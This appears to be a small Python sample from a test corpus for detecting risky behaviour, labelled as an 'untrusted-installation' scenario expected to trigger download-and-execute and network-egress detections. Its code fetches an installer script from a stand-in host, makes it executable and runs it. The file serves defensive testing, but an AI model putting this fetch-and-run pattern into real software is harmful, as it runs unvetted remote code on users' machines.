# scenario: 02 untrusted-installation
# expect: download_execute network.egress
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# Fetches an "installer" shell script, marks it executable and runs it.
import os
import subprocess
import urllib.request

target = "/tmp/install.sh"
try:
    urllib.request.urlretrieve("http://get.example-tools.dev/install.sh", target)
    os.chmod(target, 0o755)
    subprocess.run([target], timeout=3)
except Exception as exc:
    print("install failed:", exc)
